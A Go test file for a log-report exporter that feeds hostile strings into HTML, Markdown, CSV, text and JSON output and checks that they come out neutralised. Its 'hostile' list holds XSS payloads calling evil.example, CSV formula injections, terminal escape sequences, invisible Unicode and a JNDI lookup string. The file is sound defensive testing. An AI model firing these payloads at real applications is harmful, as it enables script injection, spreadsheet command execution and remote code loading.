package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	source "github.com/yuin/goldmark/text"

	"hubscope/analyzer/casefile"
	"hubscope/analyzer/phrase"
	"hubscope/app/lang"
	"hubscope/app/report"
	"hubscope/app/report/htmltest"
	"hubscope/app/sheet"
	"hubscope/parsers/event"
)

// hostile is what strangers may write into a log for whoever reads it in whatever program.
// Each names evil.example or begins a formula, so that a test can find it again.
var hostile = []string{
	`<script>fetch("https://evil.example/")</script>`,
	`"><img src=https://evil.example/x onerror=alert(1)>`,
	`</style></title></svg></pre><iframe src="https://evil.example/"></iframe><!-- `,
	`' onmouseover='evil.example' x='`,
	`javascript:location="//evil.example"`,
	"`` ` ``` evil.example ~~~",
	"```\n</code></pre>\n# evil.example",
	`![evil.example](https://evil.example/x.png) [evil.example](https://evil.example/) <https://evil.example/>`,
	`https://evil.example/ www.evil.example ftp://evil.example root@evil.example @evil.example evil.example#123 #123 GH-123`,
	`| evil.example | evil.example \| \\| ||`,
	"evil.example\n\n# evil.example\n- evil.example\n1. evil.example\n| evil.example |\n|---|\n> evil.example",
	"**evil.example** _evil.example_ ~~evil.example~~ $$evil.example$$ :evil.example: [^evil.example]",
	"=HYPERLINK(\"https://evil.example\")", "+evil.example", "-evil.example", "@SUM(evil.example)", "\t=evil.example", "\r=evil.example", "\n=evil.example",
	"＝evil.example", "＋evil.example", "－evil.example", "＠evil.example", " =evil.example", "\"=evil.example", "'\" =evil.example", "\u00a0=evil.example",
	"evil.example;=evil.example", "evil.example; \"@evil.example",
	"\x1b[2J\x1b]0;evil.example\x07\x1b]8;;https://evil.example\x1b\\evil.example\x1b]8;;\x1b\\",
	"\u009b2J\u009devil.example\u009c\x00\x7f\x08\x0c", "\u202eevil.example\u202c\u2066evil.example\u2069\u200e\u061c",
	"evil\u200b.\u200cex\u200dample\u2060\ufeff\u00ad\U000e0041", "\u2028evil.example\u2029\u0085", "\xff\xfeevil.example\xc3", "\ufdd0evil.example\ufdd1",
	"{{.Evil}} ${jndi:ldap://evil.example} %evil.example% &lt;b&gt; &#60;evil.example&#62; ]]>",
}

var noon = time.Date(2026, 3, 2, 12, 0, 0, 0, time.FixedZone("", 9*3600))

// hostileCase is a case in which everything that a log or a setting may say is one text.
func hostileCase(s string) report.View {
	at := func(line int64, minutes int) casefile.Evidence {
		return casefile.Evidence{Ref: casefile.Ref{Line: line, Offset: line, Length: 3}, Time: noon.Add(time.Duration(minutes) * time.Minute),
			Says: phrase.New("fleet.evidence.refused", "user", s, "reason", s), Sure: event.Observed}
	}
	ev := []casefile.Evidence{at(7, -3), at(8, -2), at(9, 0)}
	advice := []casefile.Advice{{For: casefile.User, Do: phrase.New("fleet.evidence.refused", "user", s, "reason", s)}}
	says := phrase.New("fleet.evidence.refused", "user", s, "reason", []string{s, s})
	term := phrase.Term{Set: "setting", ID: s}
	c := &casefile.Case{
		Sources: []casefile.Source{{ID: "s1", Path: s, Kind: s, System: event.SystemGateway, App: s, Lines: 2, Records: 1, First: noon, Last: noon,
			Clock: casefile.Clock{Zone: s, Basis: casefile.ClockGiven}, Warnings: []casefile.Warning{{Code: "empty", Says: says}}}},
		Devices:       []casefile.Device{{Platform: s, Model: s, OS: s, User: s, Apps: []casefile.DeviceApp{{Name: s, Version: s}}, Sources: []int{0}}},
		Configuration: []casefile.Setting{{App: s, Platform: s, Scope: s, Key: s, Label: term, Value: s, Origin: "s1", Line: 9, InForce: true, Relied: true}, {App: s, Key: s, Label: term, Value: s, Origin: s, InForce: true, Relied: true}},
		Sessions: []casefile.Session{{ID: s, User: s, Device: s, Start: noon.Add(-time.Hour), End: noon, Ended: true, LogoutMethod: s, EndCause: s,
			Confidence: casefile.Likely, Why: says, Evidence: ev}},
		Prompts: []casefile.Prompt{{ID: "p1", Time: noon, Kind: casefile.KindPrompt, User: s, Device: s, App: s, Session: s, Platform: s, Cause: s, Confidence: casefile.Confirmed,
			Credential: casefile.Credential{Type: casefile.CredentialType(s), Container: "primary", Why: says}, Disposition: casefile.Fault, Headline: says,
			Explanation: []phrase.Phrase{says, says}, Because: []string{s, s}, Evidence: ev, Alternatives: []casefile.Alternative{{Cause: s, Verdict: casefile.RuledOut, Why: says}},
			Advice: advice, References: []string{s}}},
		Mail: []casefile.MailFailure{{ID: "m1", Time: noon, Until: noon.Add(time.Hour), Count: 2, User: s, Device: s, Target: s, Verdict: s, Hop: "device", Confidence: casefile.Likely,
			Disposition: casefile.Fault, Hops: []casefile.Hop{{Hop: s, State: casefile.HopBroken, Why: says, Evidence: ev}}, Headline: says, Explanation: []phrase.Phrase{says},
			Evidence: ev, Advice: advice, References: []string{s}, Recovered: &casefile.Recovery{Time: noon.Add(time.Hour), Evidence: ev}}},
		MailNotes: []casefile.MailNote{{ID: "push-off", Time: noon, Until: noon, User: s, Session: s, Says: says, Evidence: ev}},
		Misconfigurations: []casefile.Misconfiguration{{Rule: s, Severity: casefile.Error, App: s, Platform: s, Line: 4, Key: s, Label: term, Value: s, Suggestion: s, Where: says,
			Message: says, Why: says, Advice: advice}},
		Waves: []casefile.Wave{{ID: "w1", Kind: casefile.WaveEnded, Gateway: s, Time: noon, Span: time.Second, Users: 9, Names: []string{s, s}, Sessions: 1,
			Trigger: casefile.Trigger{Kind: casefile.TriggerKind(s), Confidence: casefile.Likely, Evidence: ev}, Headline: says, Notes: []phrase.Phrase{says}, Evidence: ev}},
		Patterns: []casefile.Pattern{{ID: "q1", Kind: "weekly", User: s, Cause: s, Confidence: casefile.Likely, Headline: says, Explanation: []phrase.Phrase{says}, Evidence: ev}},
		WhatIf: []casefile.WhatIf{{Set: []casefile.WhatIfSetting{{Key: s, Value: s}}, Headline: says, Explanation: []phrase.Phrase{says}, Limits: []phrase.Phrase{says},
			Avoided: []casefile.WhatIfObserved{{Time: noon, User: s, App: s, Cause: s}}, Added: []casefile.WhatIfPrompt{{Time: noon, User: s, App: s, Cause: s}}}},
		Limits: []phrase.Phrase{says}, Callers: []string{s}, From: noon.Add(-time.Hour), To: noon.Add(time.Hour),
	}
	return report.View{Case: c, Text: func(casefile.Ref) string { return s }, Printer: lang.New("en", noon.Location())}
}

func written(t *testing.T, v report.View, f Format) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := New(v, nil).Write(&b, f); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// unseen finds a character that a display obeys or does not show.
func unseen(s string) (rune, bool) {
	for _, r := range s {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || unicode.In(r, unicode.Zl, unicode.Zp) || r >= 0xfdd0 && r <= 0xfdef) {
			return r, true
		}
	}
	return 0, false
}

func each(t *testing.T, test func(t *testing.T, s string)) {
	for _, s := range append(hostile, strings.Repeat("<evil.example `=|", 1<<12)) {
		name := s
		if len(name) > 40 {
			name = name[:40]
		}
		t.Run(name, func(t *testing.T) { test(t, s) })
	}
}

// TestAMegabyteLine: a line of that length makes no report that nobody can open.
func TestAMegabyteLine(t *testing.T) {
	v := hostileCase("=1")
	line := strings.Repeat("<&\"evil.example`;=", 1<<16)
	v.Text = func(casefile.Ref) string { return line }
	v.Case.Prompts[0].User, v.Case.Misconfigurations[0].Value = line, line
	for f := range writers {
		if out := written(t, v, f); f != JSON && f != Text && len(out) > 200<<10 { // these two promise all of a value
			t.Errorf("%s: %d bytes", f, len(out))
		}
	}
}

func TestHostileHTML(t *testing.T) {
	each(t, func(t *testing.T, s string) {
		out := written(t, hostileCase(s), HTML)
		faults, shown := htmltest.Faults(out)
		for _, f := range faults {
			t.Error(f)
		}
		if r, found := unseen(shown); found {
			t.Errorf("%U stands in the report", r)
		}
		if !strings.Contains(shown, "evil") && !strings.Contains(shown, "Evil") {
			t.Error("what the log says is not in the report")
		}
		if len(out) > 5<<20 {
			t.Errorf("%d bytes", len(out))
		}
	})
}

// TestHostileMarkdown has a Markdown reader say what it takes for what: everything out of a
// log is code to it, and there is no link, no picture, no HTML at all.
func TestHostileMarkdown(t *testing.T) {
	reader := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote)).Parser()
	each(t, func(t *testing.T, s string) {
		for _, f := range []Format{Markdown, Ticket} {
			out := written(t, hostileCase(s), f)
			if r, found := unseen(string(out)); found {
				t.Errorf("%s: %U", f, r)
			}
			err := ast.Walk(reader.Parse(source.NewReader(out)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
				if !entering {
					return ast.WalkContinue, nil
				}
				switch n := n.(type) {
				case *ast.CodeSpan, *ast.FencedCodeBlock:
					return ast.WalkSkipChildren, nil
				case *ast.Link, *ast.AutoLink, *ast.Image, *ast.RawHTML, *ast.HTMLBlock, *ast.CodeBlock, *ast.Blockquote:
					t.Errorf("%s: a %s", f, n.Kind())
				case *ast.Text:
					said := string(n.Segment.Value(out))
					for _, bad := range []string{"evil.", "Evil", "#123", "GH-123", "@evil", "ex\\u200d"} {
						if strings.Contains(said, bad) {
							t.Errorf("%s: outside code: %.100q", f, said)
						}
					}
				}
				return ast.WalkContinue, nil
			})
			if err != nil {
				t.Fatal(err)
			}
		}
	})
}

// TestHostileCSV reads the table as a spreadsheet program does, also as one whose list
// separator is a semicolon.
func TestHostileCSV(t *testing.T) {
	each(t, func(t *testing.T, s string) {
		out := written(t, hostileCase(s), CSV)
		rows := readTable(t, out)
		if len(rows) != 1+2+1+3+1+1+1 {
			t.Errorf("%d rows", len(rows))
		}
		for _, row := range rows {
			for _, cell := range row {
				safeCell(t, cell)
			}
		}
	})
}

// readTable reads a table and holds its form against RFC 4180.
func readTable(t *testing.T, out []byte) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(out, []byte(sheet.Mark))
	if !ok || !bytes.HasSuffix(body, []byte("\r\n")) {
		t.Error("no mark at the beginning or no line end at the end")
	}
	if strings.Trim(strings.Join(strings.Split(string(body), "\r\n"), ""), "\n\r") != strings.ReplaceAll(string(body), "\r\n", "") {
		t.Error("a line end within a row")
	}
	r := csv.NewReader(bytes.NewReader(body))
	var rows [][]string
	for {
		row, err := r.Read()
		if err == io.EOF {
			return rows
		}
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, row)
	}
}

func safeCell(t *testing.T, cell string) {
	t.Helper()
	if r, found := unseen(cell); found || strings.Contains(cell, "\n") {
		t.Errorf("%U in a cell", r)
	}
	if n := len([]rune(cell)); n > sheet.CellLength+2 {
		t.Errorf("a cell of %d characters", n)
	}
	for _, part := range strings.Split(cell, ";") {
		begin := strings.TrimLeftFunc(part, func(r rune) bool { return unicode.IsSpace(r) || r == '"' })
		if strings.HasPrefix(part, "'") {
			continue
		}
		if strings.IndexAny(begin, "=+-@＝＋－＠") == 0 {
			t.Errorf("a formula: %.60q", part)
		}
	}
}

func TestHostileText(t *testing.T) {
	each(t, func(t *testing.T, s string) {
		if r, found := unseen(string(written(t, hostileCase(s), Text))); found {
			t.Errorf("%U reaches the terminal", r)
		}
	})
}

func TestHostileJSON(t *testing.T) {
	each(t, func(t *testing.T, s string) {
		out := written(t, hostileCase(s), JSON)
		if !json.Valid(out) {
			t.Error("no JSON")
		}
		if i := bytes.IndexFunc(out, func(r rune) bool { return r < 0x20 && r != '\n' }); i >= 0 {
			t.Errorf("a bare control character: %q", out[i])
		}
	})
}
